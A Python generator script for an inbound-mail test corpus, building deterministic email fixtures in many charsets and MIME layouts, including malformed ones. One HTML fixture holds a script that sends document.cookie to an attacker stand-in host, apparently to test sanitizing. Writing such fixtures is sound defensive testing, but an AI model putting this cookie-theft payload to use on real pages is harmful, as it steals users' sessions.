#!/usr/bin/env python3
"""Writes the inbound-mail test corpus: raw RFC 5322 messages, as mail software makes them.

Most messages are built with Python's standard `email` package (EmailMessage with the default
or SMTP policy, the compat32 `email.mime` classes, `email.header.Header`, `email.utils`), so
their encoding, folding and MIME structure are a real mail library's, not ours. A few are raw
bytes on purpose (the malformed ones). The Thunderbird, Outlook and Apple Mail messages (23, 24,
25, 48) are hand-written files in those programs' formats; this script does not touch them.

Everything is deterministic: fixed dates, fixed Message-IDs, fixed MIME boundaries, attachment
bytes from a fixed pseudo-random stream, ZIP entries stored with a fixed time, PNGs with stored
(level 0) zlib blocks. Running it again gives the same bytes.

Message 45, with an attachment over 10 MiB (~14 MB of base64), is not stored at all: the Rust
test (`tests/corpus.rs`, `oversized_attachment`) builds it at run time.

    python3 crates/mail/tests/corpus/generate.py
"""

import hashlib
import io
import os
import struct
import zipfile
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.charset import BASE64, QP, Charset
from email.header import Header
from email.message import EmailMessage, Message
from email.mime.application import MIMEApplication
from email.mime.base import MIMEBase
from email.mime.image import MIMEImage
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import format_datetime, formataddr, formatdate

HERE = os.path.dirname(os.path.abspath(__file__))

HELPDESK = "helpdesk@helpdesk.example.org"
HELPDESK_NAMED = "Helpdesk <helpdesk@helpdesk.example.org>"
CET = timezone(timedelta(hours=1))

LF = policy.default  # linesep "\n", 8bit allowed, max_line_length 78
SMTP = policy.SMTP  # linesep "\r\n"
LEGACY_LF = policy.compat32  # what email.mime.* and email.message.Message use


# --- deterministic ingredients ---------------------------------------------------------------


def date(day, hour, minute, tz=CET):
    return format_datetime(datetime(2026, 3, day, hour, minute, 0, tzinfo=tz))


def gmt_date(day, hour, minute):
    stamp = datetime(2026, 3, day, hour, minute, 0, tzinfo=timezone.utc).timestamp()
    return formatdate(stamp, usegmt=True)


def pseudo_random(seed, size):
    """`size` bytes from SHA-256 in counter mode: the same bytes every run, on every machine."""
    out = bytearray()
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        counter += 1
    return bytes(out[:size])


def png(width, height, seed):
    """A valid RGB PNG (stored, uncompressed zlib blocks, so any zlib writes the same bytes)."""
    noise = pseudo_random(seed, width * height * 3)
    rows = b"".join(b"\x00" + noise[y * width * 3 : (y + 1) * width * 3] for y in range(height))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows, 0)) + chunk(b"IEND", b"")


def pdf(title, size):
    """A small well-formed-looking PDF, padded with a comment stream to about `size` bytes."""
    head = (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n"
    )
    text = f"BT /F1 12 Tf 72 770 Td ({title}) Tj ET\n".encode()
    padding = pseudo_random(title, max(0, size - len(head) - len(text) - 120)).hex().encode()
    stream = text + b"% " + padding[: max(0, size - len(head) - len(text) - 120)] + b"\n"
    body = b"4 0 obj\n<< /Length %d >>\nstream\n" % len(stream) + stream + b"endstream\nendobj\n"
    return head + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def zip_bytes(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2026, 3, 1, 12, 0, 0))
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def log_text(lines):
    return "".join(f"2026-03-01T12:{i % 60:02d}:00Z printer-3f spooler: job {1000 + i} state=stalled\n" for i in range(lines))


def csv_text(rows):
    out = "ticket;opened;customer;amount\n"
    for i in range(rows):
        out += f"{4200 + i};2026-02-{1 + i % 28:02d};Customer {i};{(i * 37) % 1000}.{i % 100:02d}\n"
    return out


def fix_boundaries(msg, tag):
    """Gives every multipart in the tree a fixed boundary (the email package draws random ones)."""
    n = 0
    for part in msg.walk():
        if part.get_content_maintype() == "multipart":
            n += 1
            part.set_boundary(f"===============_{tag}_{n}_==")
    return msg


def write(name, data):
    path = os.path.join(HERE, name)
    with open(path, "wb") as f:
        f.write(data)


def emit(name, msg, pol=LF):
    fix_boundaries(msg, name.split("-")[0])
    write(name, msg.as_bytes(policy=pol))


def person(name, address, tag, day=2, hour=9, minute=15, subject="", to=HELPDESK):
    """An EmailMessage with the usual headers of a person's message."""
    msg = EmailMessage(policy=LF)
    msg["From"] = formataddr((name, address)) if name else address
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = date(day, hour, minute)
    msg["Message-ID"] = f"<{tag}@{address.split('@')[1]}>"
    msg["MIME-Version"] = "1.0"
    return msg


# --- the messages ----------------------------------------------------------------------------


def plain_ascii():
    msg = person("Alice Example", "Alice@Example.com", "plain-ascii.1", subject="Printer on the 3rd floor is jammed")
    msg.replace_header("To", "Helpdesk <helpdesk@helpdesk.example.org>, Facilities <Facilities@Example.com>")
    msg["Cc"] = "Bob Builder <bob@example.com>"
    msg.set_content(
        "Hello,\n\n"
        "the printer on the 3rd floor (HP LaserJet, asset 4711) jams on every\n"
        "second page. We already tried another paper tray.\n\n"
        "Thanks,\nAlice\n"
    )
    emit("01-plain-ascii.eml", msg)


def utf8_quoted_printable():
    msg = person("Jürgen Müller", "juergen.mueller@example.de", "utf8-qp.2", subject="Drucker im Büro druckt nicht")
    msg.set_content(
        "Hallo zusammen,\n\n"
        "der Drucker im Büro in der Königstraße druckt seit heute Morgen nur noch leere Seiten.\n"
        "Könnt ihr bitte jemanden vorbeischicken?\n\n"
        "Viele Grüße\nJürgen\n",
        cte="quoted-printable",
    )
    emit("02-utf8-quoted-printable.eml", msg)


def utf8_base64():
    msg = person("Иван Петров", "ivan.petrov@example.ru", "utf8-b64.3", subject="Не работает VPN")
    msg.set_content(
        "Привет!\n\n"
        "Не работает VPN с утра: клиент пишет «ошибка аутентификации».\n"
        "Пароль я не менял.\n\n"
        "Спасибо,\nИван\n",
        cte="base64",
    )
    emit("03-utf8-base64.eml", msg)


def iso_8859_1():
    msg = person("François Lefèvre", "f.lefevre@example.fr", "latin1.4", subject="La machine à café est en panne")
    msg.set_content(
        "Bonjour,\n\n"
        "la machine à café du 2e étage affiche « erreur détartrage » depuis lundi.\n"
        "Merci d'avance et salutations de Köln, où je suis en déplacement.\n\n"
        "François\n",
        charset="iso-8859-1",
        cte="8bit",
    )
    emit("04-iso-8859-1.eml", msg)


def iso_8859_15():
    msg = person("Œlie Dupré", "oelie@example.fr", "latin9.5", subject="Facture erronée")
    msg.set_content(
        "Bonjour,\n\n"
        "la facture n° 2026-118 indique 120 € au lieu de 96 €.\n"
        "Pouvez-vous corriger ? Cœur sur vous.\n",
        charset="iso-8859-15",
        cte="quoted-printable",
    )
    emit("05-iso-8859-15.eml", msg)


def windows_1252():
    msg = person("Zoë Smith", "zoe@example.co.uk", "cp1252.6", subject="Invoice question")
    msg.set_content(
        "Hi,\n\n"
        "the invoice says “paid” – but we were charged €49 twice… Could you check?\n\n"
        "Cheers,\nZoë\n",
        charset="windows-1252",
        cte="quoted-printable",
    )
    emit("06-windows-1252.eml", msg)


def koi8_r():
    msg = person("Ольга Смирнова", "olga@example.ru", "koi8.7", subject="Не могу войти в систему")
    msg.set_content(
        "Здравствуйте!\n\n"
        "Не могу войти в систему: пишет, что пароль неверный.\n"
        "С уважением,\nОльга\n",
        charset="koi8-r",
        cte="8bit",
    )
    emit("07-koi8-r.eml", msg)


def shift_jis():
    msg = person("山田太郎", "yamada@example.jp", "sjis.8", subject="パスワードのリセット")
    msg.set_content(
        "お世話になっております。山田です。\n\n"
        "パスワードをリセットしてください。\n"
        "よろしくお願いいたします。\n",
        charset="shift_jis",
        cte="base64",
    )
    emit("08-shift-jis.eml", msg)


def gb2312():
    msg = person("王小明", "wang@example.cn", "gb2312.9", subject="账户被锁定")
    msg.set_content(
        "你好，\n\n我的账户被锁定了，请帮我解锁。\n谢谢！\n",
        charset="gb2312",
        cte="base64",
    )
    emit("09-gb2312.eml", msg)


def gbk():
    # 镕 and 喆 are in GBK but not in GB2312: a GBK decoder is needed, not a strict GB2312 one.
    msg = person("朱镕", "zhu@example.cn", "gbk.10", subject="发票问题")
    msg.set_content(
        "您好，\n\n我是朱镕，同事陶喆的发票还没有收到。\n",
        charset="gbk",
        cte="8bit",
    )
    emit("10-gbk.eml", msg)


def iso_2022_jp():
    # The way Japanese mailers have sent mail for decades: 7bit ISO-2022-JP body, B-encoded
    # ISO-2022-JP subject and name (compat32 + email.header, as a legacy mailer would).
    msg = MIMEText(
        "お世話になっております。\n\n請求書がまだ届いていません。\nご確認をお願いいたします。\n\n佐藤花子\n",
        "plain",
        "iso-2022-jp",
    )
    msg["From"] = formataddr(("佐藤花子", "sato@example.jp"), charset="iso-2022-jp")
    msg["To"] = HELPDESK
    msg["Subject"] = Header("請求書が届いていません", "iso-2022-jp")
    msg["Date"] = date(2, 10, 0, tz=timezone(timedelta(hours=9)))
    msg["Message-ID"] = "<iso2022jp.11@example.jp>"
    emit("11-iso-2022-jp.eml", msg, LEGACY_LF)


def utf8_charset(encoding):
    charset = Charset("utf-8")
    charset.header_encoding = encoding
    return charset


def rfc2047_b():
    msg = MIMEText("Γεια σας,\n\nη σύνδεση στο portal δεν λειτουργεί.\n\nΣωκράτης\n", "plain", "utf-8")
    msg["From"] = formataddr(("Σωκράτης Παπαδόπουλος", "sokratis@example.gr"), charset=utf8_charset(BASE64))
    msg["To"] = HELPDESK
    msg["Subject"] = Header("Πρόβλημα σύνδεσης – επείγον", utf8_charset(BASE64))
    msg["Date"] = date(2, 11, 0)
    msg["Message-ID"] = "<rfc2047-b.12@example.gr>"
    emit("12-rfc2047-b.eml", msg, LEGACY_LF)


def rfc2047_q():
    msg = MIMEText("Hallo,\n\nim Büro funktioniert der Drucker nicht.\n", "plain", "utf-8")
    msg["From"] = formataddr(("Jörg Weiß", "joerg.weiss@example.de"), charset=utf8_charset(QP))
    msg["To"] = HELPDESK
    # iso-8859-1 encodes headers as Q by default.
    msg["Subject"] = Header("Störung: Drucker im Büro", "iso-8859-1")
    msg["Date"] = date(2, 11, 30)
    msg["Message-ID"] = "<rfc2047-q.13@example.de>"
    emit("13-rfc2047-q.eml", msg, LEGACY_LF)


def rfc2047_split_subject():
    # Two adjacent encoded-words: the white space between them is not part of the subject
    # (RFC 2047 6.2); the space that is part of it sits inside the first word.
    b = utf8_charset(BASE64)
    first = b.header_encode("Passwort zurücksetzen ")
    second = b.header_encode("funktioniert nicht – bitte helfen")
    msg = MIMEText("Der Link in der E-Mail führt ins Leere.\n", "plain", "utf-8")
    msg["From"] = formataddr(("Dörte Schäfer", "doerte@example.de"), charset=utf8_charset(QP))
    msg["To"] = HELPDESK
    msg["Subject"] = f"{first}\n {second}"
    msg["Date"] = date(2, 12, 0)
    msg["Message-ID"] = "<rfc2047-split.14@example.de>"
    emit("14-rfc2047-split-subject.eml", msg, LEGACY_LF)


def alternative_text_wins():
    msg = person("Carol Diaz", "carol@example.com", "alternative.15", subject="VPN drops every 10 minutes")
    msg.set_content("Plain version: the VPN drops every 10 minutes since the update.\n\nCarol\n")
    msg.add_alternative(
        "<html><body><p>HTML version: the <b>VPN</b> drops every 10 minutes since the update.</p>"
        "<p>Carol</p></body></html>\n",
        subtype="html",
    )
    emit("15-alternative-text-wins.eml", msg)


def html_only():
    msg = person("Dave Evans", "dave@example.com", "html-only.16", subject="Invoice portal error")
    msg.set_content(
        "<!DOCTYPE html>\n<html>\n<head>\n<title>ignored title</title>\n"
        "<style>\np.warn { color: red; font-weight: bold; }\n</style>\n</head>\n<body>\n"
        "<p>Hello support,</p>\n"
        "<p>Our <b>invoice portal</b> shows an error when I open March.</p>\n"
        "<script>document.location='https://evil.example/steal?c='+document.cookie;</script>\n"
        '<p class="warn"><a href="https://portal.example.com/" onclick="stealCookies()">Open the portal</a></p>\n'
        "<p>Regards,<br>Dave</p>\n</body>\n</html>\n",
        subtype="html",
    )
    emit("16-html-only.eml", msg)


def attachments():
    return [
        ("report.pdf", "application", "pdf", pdf("Quarterly report", 3000)),
        ("screenshot.png", "image", "png", png(32, 24, "screenshot")),
        ("notes.txt", "text", "plain", ("Notes from the call on 1 March.\n" * 80).encode()),
        ("export.csv", "text", "csv", csv_text(90).encode()),
        ("logs.zip", "application", "zip", zip_bytes([("spooler.log", log_text(40).encode()), ("random.bin", pseudo_random("zip", 1500))])),
    ]


def with_attachments(msg, files):
    for name, main, sub, data in files:
        if main == "text":
            msg.add_attachment(data.decode(), subtype=sub, filename=name)
        else:
            msg.add_attachment(data, maintype=main, subtype=sub, filename=name)


def five_attachments():
    msg = person("Erin Fox", "erin@example.com", "five.17", subject="Files for the audit")
    msg.set_content("Hi,\n\nhere are the five files for the audit.\n\nErin\n")
    with_attachments(msg, attachments())
    emit("17-five-attachments.eml", msg)


def six_attachments():
    msg = person("Erin Fox", "erin@example.com", "six.18", subject="Files for the audit (all of them)")
    msg.set_content("Hi,\n\nand one more: six files in total.\n\nErin\n")
    extra = ("photo.png", "image", "png", png(24, 24, "photo"))
    with_attachments(msg, attachments() + [extra])
    emit("18-six-attachments.eml", msg)


def inline_image_cid():
    msg = person("Frank Green", "frank@example.com", "related.19", subject="Error dialog screenshot")
    msg.set_content("The error dialog looks like this: [image]\n\nFrank\n")
    msg.add_alternative(
        '<html><body><p>The error dialog looks like this:</p><p><img src="cid:dialog.19@example.com" alt="dialog"></p>'
        "<p>Frank</p></body></html>\n",
        subtype="html",
    )
    html = msg.get_payload()[1]
    html.add_related(png(40, 20, "dialog"), "image", "png", cid="<dialog.19@example.com>", disposition="inline", filename="dialog.png")
    emit("19-inline-image-cid.eml", msg)


def forwarded_rfc822():
    inner = person("Gina Hall", "gina@customer.example", "inner.20", day=1, hour=18, minute=2, subject="Order 1234 never arrived", to="sales@example.com")
    inner.set_content("Hello,\n\nwhere is my parcel? Order 1234 was paid two weeks ago.\n\nGina\n")
    msg = person("Henry Ives", "henry@example.com", "fwd.20", subject="Fwd: Order 1234 never arrived")
    msg.set_content("Forwarding a customer's complaint, see the attached message.\n\nHenry\n")
    msg.add_attachment(inner)
    emit("20-forwarded-rfc822.eml", msg)


def reply_subject_tag():
    msg = person("Alice Example", "alice@example.com", "reply.21", day=3, subject="Re: [Helpdesk #42] Printer on fire")
    msg["In-Reply-To"] = "<ticket-42.n1@helpdesk.example.org>"
    msg["References"] = "<ticket-42@helpdesk.example.org> <ticket-42.n1@helpdesk.example.org>"
    msg.set_content(
        "Thanks, the printer works again.\n\n"
        "On Mon, 2 Mar 2026 at 17:05, Helpdesk <helpdesk@helpdesk.example.org> wrote:\n"
        "> We replaced the fuser unit.\n"
        "> Please check whether the printer works now.\n"
    )
    emit("21-reply-subject-tag.eml", msg)


def reply_references_only():
    msg = person("Alice Example", "alice@example.com", "refs.22", day=3, hour=11, subject="One more question about the toner")
    msg["References"] = "<ticket-42@helpdesk.example.org>"
    msg.set_content("Which toner cartridge should we order for that printer?\n")
    emit("22-reply-references-only.eml", msg)


def bounce_dsn():
    original = MIMEText("Your ticket #42 has been updated.\n", "plain", "utf-8")
    original["From"] = HELPDESK_NAMED
    original["To"] = "nobody@gone.example"
    original["Subject"] = "[Helpdesk #42] Printer on fire"
    original["Message-ID"] = "<ticket-42.n2@helpdesk.example.org>"

    def block(fields):
        part = Message()
        for name, value in fields:
            part[name] = value
        return part

    status = Message()
    status["Content-Type"] = "message/delivery-status"
    status.set_payload(
        [
            block([("Reporting-MTA", "dns; mx.gone.example"), ("Arrival-Date", gmt_date(3, 8, 0))]),
            block(
                [
                    ("Final-Recipient", "rfc822; nobody@gone.example"),
                    ("Action", "failed"),
                    ("Status", "5.1.1"),
                    ("Diagnostic-Code", "smtp; 550 5.1.1 <nobody@gone.example>: Recipient address rejected"),
                ]
            ),
        ]
    )
    msg = MIMEMultipart("report", boundary="=_bounce_26_=")
    msg.set_param("report-type", "delivery-status")
    msg["Return-Path"] = "<>"
    msg["From"] = "Mail Delivery System <MAILER-DAEMON@mx.gone.example>"
    msg["To"] = HELPDESK
    msg["Subject"] = "Undelivered Mail Returned to Sender"
    msg["Date"] = gmt_date(3, 8, 0)
    msg["Message-ID"] = "<20260303080000.4F2A1@mx.gone.example>"
    msg["Auto-Submitted"] = "auto-replied"
    msg.attach(MIMEText("This is the mail system at host mx.gone.example.\n\nI'm sorry to have to inform you that your message could not\nbe delivered to one or more recipients.\n", "plain", "us-ascii"))
    msg.attach(status)
    msg.attach(MIMEMessage(original, "rfc822"))
    # The MIME headers after the addressing ones, as an MTA writes them (Return-Path first).
    del msg["MIME-Version"]
    del msg["Content-Type"]
    msg["MIME-Version"] = "1.0"
    msg["Content-Type"] = 'multipart/report; report-type="delivery-status"'
    emit("26-bounce-dsn.eml", msg, LEGACY_LF)


def auto_submitted():
    msg = person("Alice Example", "alice@example.com", "ooo.27", day=3, hour=17, subject="Automatic reply: [Helpdesk #42] Printer on fire")
    msg["Auto-Submitted"] = "auto-replied"
    msg["X-Auto-Response-Suppress"] = "All"
    msg["In-Reply-To"] = "<ticket-42.n3@helpdesk.example.org>"
    msg.set_content("I am out of the office until 9 March with limited access to e-mail.\n")
    emit("27-auto-submitted.eml", msg)


def x_autoreply():
    msg = person("Bob Builder", "bob@example.com", "ooo.28", day=3, hour=17, minute=30, subject="Out of office: Printer on fire")
    msg["X-Autoreply"] = "yes"
    msg.set_content("I'm on holiday. Your message will not be forwarded.\n")
    emit("28-x-autoreply.eml", msg)


def precedence_bulk():
    msg = person("Example Newsletter", "news@newsletter.example", "bulk.29", day=4, subject="March news: 20% off all toner")
    msg["Precedence"] = "bulk"
    msg["List-Unsubscribe"] = "<mailto:unsubscribe@newsletter.example>"
    msg.set_content("This month only: 20% off all toner cartridges.\n")
    emit("29-precedence-bulk.eml", msg)


def mailing_list():
    msg = person("Ivy Jones", "ivy@example.com", "list.30", day=4, hour=10, subject="[support-l] Printer driver for macOS?", to="support-l@lists.example.com")
    msg["Cc"] = HELPDESK
    msg["List-Id"] = "Support discussion <support-l.lists.example.com>"
    msg["List-Post"] = "<mailto:support-l@lists.example.com>"
    msg["Precedence"] = "list"
    msg["Sender"] = "support-l-bounces@lists.example.com"
    msg.set_content("Does anybody have the macOS driver for the 3rd floor printer?\n\nIvy\n")
    emit("30-mailing-list.eml", msg)


def x_loop():
    msg = person("Alice Example", "alice@example.com", "loop.31", day=4, hour=11, subject="Re: [Helpdesk #42] Printer on fire")
    msg["X-Loop"] = HELPDESK
    msg.set_content("This came back round through a forwarding rule.\n")
    emit("31-x-loop.eml", msg)


def no_message_id():
    msg = person("Jack King", "jack@example.com", "unused", day=4, hour=12, subject="No Message-ID here")
    del msg["Message-ID"]
    msg.set_content("My mail program does not add a Message-ID.\n")
    emit("32-no-message-id.eml", msg)


def empty_body():
    msg = person("Kate Lee", "kate@example.com", "empty.33", day=4, hour=13, subject="Please call me back")
    msg.set_content("")
    emit("33-empty-body.eml", msg)


def malformed():
    # 34: a multipart whose boundary never appears in the body.
    write(
        "34-malformed-missing-boundary.eml",
        b"From: Liam Moore <liam@example.com>\n"
        b"To: helpdesk@helpdesk.example.org\n"
        b"Subject: Broken multipart\n"
        b"Date: Wed, 04 Mar 2026 14:00:00 +0100\n"
        b"Message-ID: <broken-boundary.34@example.com>\n"
        b"MIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="this-boundary-never-appears"\n'
        b"\n"
        b"--some-other-boundary\n"
        b"Content-Type: text/plain; charset=utf-8\n"
        b"\n"
        b"The scanner sends empty PDFs.\n"
        b"--some-other-boundary--\n",
    )
    # 35: a text part declared base64 that is not base64, and a broken base64 attachment.
    write(
        "35-malformed-bad-base64.eml",
        b"From: Mia Nash <mia@example.com>\n"
        b"To: helpdesk@helpdesk.example.org\n"
        b"Subject: Bad base64\n"
        b"Date: Wed, 04 Mar 2026 14:10:00 +0100\n"
        b"Message-ID: <bad-base64.35@example.com>\n"
        b"MIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="b35"\n'
        b"\n"
        b"--b35\n"
        b"Content-Type: text/plain; charset=utf-8\n"
        b"Content-Transfer-Encoding: base64\n"
        b"\n"
        b"VGhlIHNjYW5uZXIgaXMgYnJva2VuLg==\n"
        b"--b35\n"
        b"Content-Type: application/pdf; name=scan.pdf\n"
        b"Content-Disposition: attachment; filename=scan.pdf\n"
        b"Content-Transfer-Encoding: base64\n"
        b"\n"
        b"JVBERi0xLjQK!!!this is *not* base64 at all ~~~\n"
        b"%%%%\n"
        b"--b35--\n",
    )
    # 36: a header line without a colon in the middle of the header block.
    write(
        "36-malformed-header-no-colon.eml",
        b"From: Noah Olsen <noah@example.com>\n"
        b"To: helpdesk@helpdesk.example.org\n"
        b"This line is not a header at all\n"
        b"Subject: Header without a colon\n"
        b"Date: Wed, 04 Mar 2026 14:20:00 +0100\n"
        b"Message-ID: <no-colon.36@example.com>\n"
        b"\n"
        b"The badge reader at the main door is dead.\n",
    )
    # 37: a message cut off in the middle of a base64 attachment (no closing boundary).
    msg = person("Olivia Park", "olivia@example.com", "truncated.37", day=4, hour=14, minute=30, subject="Truncated upload")
    msg.set_content("The log file is attached.\n")
    msg.add_attachment(pseudo_random("truncated", 3000), maintype="application", subtype="octet-stream", filename="trace.bin")
    fix_boundaries(msg, "37")
    data = msg.as_bytes(policy=LF)
    write("37-malformed-truncated.eml", data[: data.index(b"Content-Disposition: attachment") + 700])
    # 46: no headers at all.
    write("46-not-a-message.eml", b"\n\nJust some text, with no header above it.\n")


def crlf():
    msg = person("Paul Quinn", "paul@example.com", "crlf.38", day=5, subject="Re: [Helpdesk #42] Printer on fire")
    msg.set_content(
        "CRLF line endings, as on the wire.\n\n"
        "On Mon, 2 Mar 2026 at 17:05, Helpdesk <helpdesk@helpdesk.example.org> wrote:\n"
        "> We replaced the fuser unit.\n"
    )
    msg.add_attachment(b"line one\r\nline two\r\n", maintype="application", subtype="octet-stream", filename="crlf.bin")
    emit("38-crlf.eml", msg, SMTP)


def bare_lf():
    msg = person("Rita Stone", "rita@example.com", "lf.39", day=5, hour=10, subject="Bare LF line endings")
    msg.set_content("Bare LF line endings, as a maildir stores them.\nSecond line.\n")
    msg.add_attachment(b"a\nb\n", maintype="application", subtype="octet-stream", filename="lf.bin")
    emit("39-bare-lf.eml", msg)


def long_folded_subject():
    subject = (
        "Request for access to the shared drive of the finance department for the new colleagues "
        "who start on the first of April, including read access to the archive folders of 2024 and 2025"
    )
    msg = person("Sam Turner", "sam@example.com", "long.40", day=5, hour=11, subject=subject)
    msg.set_content("See the subject.\n")
    emit("40-long-folded-subject.eml", msg)


def rfc2231_filename():
    msg = person("Tina Ulrich", "tina@example.de", "rfc2231.41", day=5, hour=12, subject="Rechnung März")
    msg.set_content("Anbei die Rechnung und das Angebot.\n")
    msg.add_attachment(pdf("Rechnung", 1200), maintype="application", subtype="pdf", filename=("utf-8", "", "Rechnung März 2026.pdf"))
    msg.add_attachment(
        pdf("Angebot", 1000),
        maintype="application",
        subtype="pdf",
        filename=("utf-8", "", "見積書_2026年3月_株式会社サンプル_最終版_確認済み.pdf"),
    )
    emit("41-rfc2231-filename.eml", msg)


def eight_bit_utf8():
    msg = person("Uma Vogel", "uma@example.de", "8bit.42", day=5, hour=13, subject="8bit: Grüße, Привет, こんにちは")
    msg.set_content(
        "Raw 8bit UTF-8 body.\nGrüße aus Wien! Привет из Москвы! こんにちは、東京から。 🎉\n",
        cte="8bit",
    )
    emit("42-8bit-utf8.eml", msg)


def smime_signed():
    inner = MIMEMultipart("mixed", boundary="=_signed_inner_43_=")
    inner.attach(MIMEText("Please find the signed contract attached.\n\nVictor\n", "plain", "utf-8"))
    contract = MIMEApplication(pdf("Contract", 2000), "pdf")
    contract.add_header("Content-Disposition", "attachment", filename="contract.pdf")
    inner.attach(contract)
    signature = MIMEApplication(pseudo_random("pkcs7", 1800), "pkcs7-signature", name="smime.p7s")
    signature.add_header("Content-Disposition", "attachment", filename="smime.p7s")
    signature.add_header("Content-Description", "S/MIME Cryptographic Signature")
    msg = MIMEMultipart("signed", boundary="=_signed_43_=", protocol="application/pkcs7-signature", micalg="sha-256")
    msg.attach(inner)
    msg.attach(signature)
    msg["From"] = "Victor Wolf <victor@example.com>"
    msg["To"] = HELPDESK
    msg["Subject"] = "Signed contract"
    msg["Date"] = date(5, 14, 0)
    msg["Message-ID"] = "<signed.43@example.com>"
    emit("43-smime-signed.eml", msg, LEGACY_LF)


def calendar_invite():
    ics = (
        "BEGIN:VCALENDAR\r\nPRODID:-//Example Corp//Calendar 1.0//EN\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\n"
        "BEGIN:VEVENT\r\nUID:printer-review-2026@example.com\r\nDTSTAMP:20260305T150000Z\r\n"
        "DTSTART:20260310T090000Z\r\nDTEND:20260310T093000Z\r\nSUMMARY:Printer review\r\n"
        "ORGANIZER;CN=Wendy Xu:mailto:wendy@example.com\r\n"
        "ATTENDEE;RSVP=TRUE;CN=Helpdesk:mailto:helpdesk@helpdesk.example.org\r\n"
        "END:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    msg = person("Wendy Xu", "wendy@example.com", "invite.44", day=5, hour=16, subject="Invitation: Printer review @ Tue 10 Mar 2026 10:00")
    msg.set_content("You have been invited to: Printer review, Tuesday 10 March 2026, 10:00-10:30.\n")
    msg.add_attachment(ics, subtype="calendar", filename="invite.ics", params={"method": "REQUEST"})
    emit("44-calendar-invite.eml", msg)


def inline_text_attachment():
    # A log file attached inline (some mailers do): a named part is a file, not more body text.
    msg = person("Xena Young", "xena@example.com", "inline-log.47", day=6, hour=9, subject="Printer log")
    msg.set_content("The printer's log is attached.\n\nXena\n")
    msg.add_attachment(log_text(12), filename="printer.log", disposition="inline")
    emit("47-inline-text-attachment.eml", msg)


def tnef_attribute(level, attribute, value):
    """One TNEF attribute as Outlook writes it: level, id, length, value, checksum."""
    return struct.pack("<BII", level, attribute, len(value)) + value + struct.pack("<H", sum(value) & 0xFFFF)


def mapi_string(kind, prop, value):
    """One MAPI string property (PT_STRING8 0x001E, PT_UNICODE 0x001F), padded to 4 bytes."""
    padded = value + b"\0" * (-len(value) % 4)
    return struct.pack("<HHII", kind, prop, 1, len(value)) + padded


def winmail_dat(files):
    """A TNEF stream (winmail.dat) as Outlook sends it: the message's attributes, then each file's
    rendering data, 8.3 title, bytes, and MAPI properties with the long file name and MIME type."""
    out = struct.pack("<IH", 0x223E9F78, 0x0F3A)
    out += tnef_attribute(1, 0x00089006, b"\x00\x00\x01\x00")  # attTnefVersion
    out += tnef_attribute(1, 0x00069007, struct.pack("<II", 1252, 0))  # attOemCodepage
    out += tnef_attribute(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")  # attMessageClass
    for title, long_name, mime, data in files:
        out += tnef_attribute(2, 0x00069002, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0))  # attAttachRenddata
        out += tnef_attribute(2, 0x00018010, title.encode("cp1252") + b"\0")  # attAttachTitle
        out += tnef_attribute(2, 0x0006800F, data)  # attAttachData
        props = [
            struct.pack("<HHI", 0x0003, 0x0E21, 0),  # PR_ATTACH_NUM
            struct.pack("<HHI", 0x0003, 0x3705, 1),  # PR_ATTACH_METHOD: by value
            mapi_string(0x001F, 0x3707, long_name.encode("utf-16-le") + b"\0\0"),  # PR_ATTACH_LONG_FILENAME
            mapi_string(0x001E, 0x370E, mime.encode() + b"\0"),  # PR_ATTACH_MIME_TAG
        ]
        out += tnef_attribute(2, 0x00069005, struct.pack("<I", len(props)) + b"".join(props))  # attAttachment
    return out


def outlook_winmail_dat():
    msg = MIMEMultipart("mixed")
    msg["From"] = formataddr(("Sven Lindqvist", "sven.lindqvist@contoso.se"))
    msg["To"] = HELPDESK_NAMED
    msg["Subject"] = "Export fails with error 0x80070005"
    msg["Date"] = date(9, 15, 20)
    msg["Message-ID"] = "<000201dcafe1$9a8b7c60$cfa27520$@contoso.se>"
    msg["X-Mailer"] = "Microsoft Outlook 16.0"
    msg["Thread-Index"] = "AdyvwZqLfGDPonUgQ2m1L0c3sYwAbQ=="
    msg["X-MS-TNEF-Correlator"] = "00000000A1B2C3D4E5F60718293A4B5C6D7E8F90A4002000"
    msg["Content-Language"] = "sv-se"
    msg.attach(MIMEText("Hi,\n\nthe export fails again, see the report and the log.\n\nSven\n", "plain", "utf-8"))
    tnef = MIMEApplication(
        winmail_dat(
            [
                ("EXPORT~1.PDF", "Export report – mars.pdf", "application/pdf", pdf("Export report", 1500)),
                ("EXPORT.LOG", "export.log", "text/plain", log_text(8).encode()),
            ]
        ),
        "ms-tnef",
        name="winmail.dat",
    )
    tnef.add_header("Content-Disposition", "attachment", filename="winmail.dat")
    msg.attach(tnef)
    emit("58-outlook-winmail-dat.eml", msg, LEGACY_LF)


def main():
    plain_ascii()
    utf8_quoted_printable()
    utf8_base64()
    iso_8859_1()
    iso_8859_15()
    windows_1252()
    koi8_r()
    shift_jis()
    gb2312()
    gbk()
    iso_2022_jp()
    rfc2047_b()
    rfc2047_q()
    rfc2047_split_subject()
    alternative_text_wins()
    html_only()
    five_attachments()
    six_attachments()
    inline_image_cid()
    forwarded_rfc822()
